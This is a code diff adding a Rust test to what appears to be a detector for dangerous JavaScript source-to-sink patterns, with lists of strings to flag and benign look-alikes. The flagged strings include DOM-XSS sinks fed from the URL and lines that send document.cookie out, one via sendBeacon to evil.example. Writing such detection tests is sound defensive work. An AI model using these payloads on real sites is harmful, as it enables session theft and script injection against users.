@@ -1629,3 +1629,30 @@ fn dangling_remote_url_attribute() {
         ],
     );
 }
+
+#[test]
+fn page_source_into_a_sink() {
+    judge(
+        &[
+            "Function(name)()",
+            "$('body').html(location.hash.slice(1))",
+            "$(location.hash)",
+            "jQuery(decodeURIComponent(location.hash.substr(1)))",
+            "new WebSocket('//x').send(document.cookie)",
+            "postMessage(document.cookie,'*')",
+            "navigator.sendBeacon('//evil.example',document.cookie)",
+            "$('#x').append(window.location.search)",
+        ],
+        &[
+            "$('#id').hide()",
+            "use $(selector).html(content) to set the markup",
+            "window.addEventListener('load', init)",
+            "console.log(document.cookie)",
+            "encodeURIComponent(location.href)",
+            "$(name)",
+            "CFLAGS=$(name) make",
+            "the html(location) helper",
+            "postMessage(data, origin)",
+        ],
+    );
+}
